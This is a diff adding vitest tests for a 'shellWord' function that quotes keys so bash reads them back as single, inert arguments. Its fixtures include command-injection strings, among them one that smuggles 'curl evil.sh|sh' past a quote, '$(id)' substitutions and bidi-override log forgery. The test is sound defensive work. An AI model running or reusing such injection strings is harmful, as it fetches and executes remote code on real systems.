@@ -1,6 +1,7 @@
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
-import { showInvisible, shownId } from '../src/visible.js';
+import { spawnSync } from 'node:child_process';
+import { showInvisible, shownId, shellWord } from '../src/visible.js';
 
 const INVISIBLE = /[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}]/u;
 /** Strings rich in what an agent would hide things with. */
@@ -63,4 +64,60 @@ describe('shownId', () => {
       }),
     );
   });
+});
+
+describe('shellWord', () => {
+  /** What bash reads back from `word` as one argument, as UTF-8 bytes (hex); null when bash is not installed. */
+  function bashReads(words: readonly string[]): string[] | null {
+    const r = spawnSync('bash', ['-c', `for w in ${words.join(' ')}; do printf '%s' "$w" | od -An -tx1 | tr -d ' \\n'; echo; done`], { encoding: 'utf8' });
+    if (r.error !== undefined) return null;
+    expect(r.status, r.stderr).toBe(0);
+    return r.stdout.split('\n').slice(0, -1);
+  }
+  const hex = (s: string) => Buffer.from(s, 'utf8').toString('hex');
+  const hasBash = spawnSync('bash', ['-c', 'true']).error === undefined;
+  if (!hasBash) console.log('shellWord: bash is not installed here, so the words are not read back by a shell');
+
+  it('leaves an ordinary key as it is, and quotes one a shell would split or run', () => {
+    expect(shellWord('refund:txn_1')).toBe('refund:txn_1');
+    expect(shellWord("i1'; curl evil.sh|sh; echo '")).toBe(`'i1'\\''; curl evil.sh|sh; echo '\\'''`);
+    expect(shellWord('a\n[ctrlrun] forged\u202eEVIL')).toBe("$'a\\x0a[ctrlrun] forged\\u202eEVIL'");
+    expect(shellWord('')).toBe("''");
+  });
+
+  it.runIf(hasBash)('bash reads each word back as exactly the key: quotes, ;, |, $, backticks, line breaks, bidi overrides, astral characters', () => {
+    const keys = [
+      "i1'; curl evil.sh|sh; echo '",
+      'a b',
+      '$(id)`id`$HOME',
+      'x\n[ctrlrun] forged line\u202eEVIL',
+      "it's\\",
+      '\u{e0041}\u2028\u0085\u001b[2J',
+      '*',
+      '~root',
+      '-rf',
+      'é',
+    ];
+    expect(bashReads(keys.map(shellWord))).toEqual(keys.map(hex));
+  });
+
+  it.runIf(hasBash)(
+    'property: whatever the key (no NUL or lone surrogate, which no argument can hold), bash reads its word back whole, and the word shows no invisible character',
+    () => {
+      fc.assert(
+        fc.property(
+          fc.array(
+            hostile.filter((s) => !/[\u0000\ud800-\udfff]/u.test(s)),
+            { minLength: 1, maxLength: 25 },
+          ),
+          (keys) => {
+            const words = keys.map(shellWord);
+            for (const w of words) expect(w).not.toMatch(INVISIBLE);
+            expect(bashReads(words)).toEqual(keys.map(hex));
+          },
+        ),
+        { numRuns: 40 },
+      );
+    },
+  );
 });
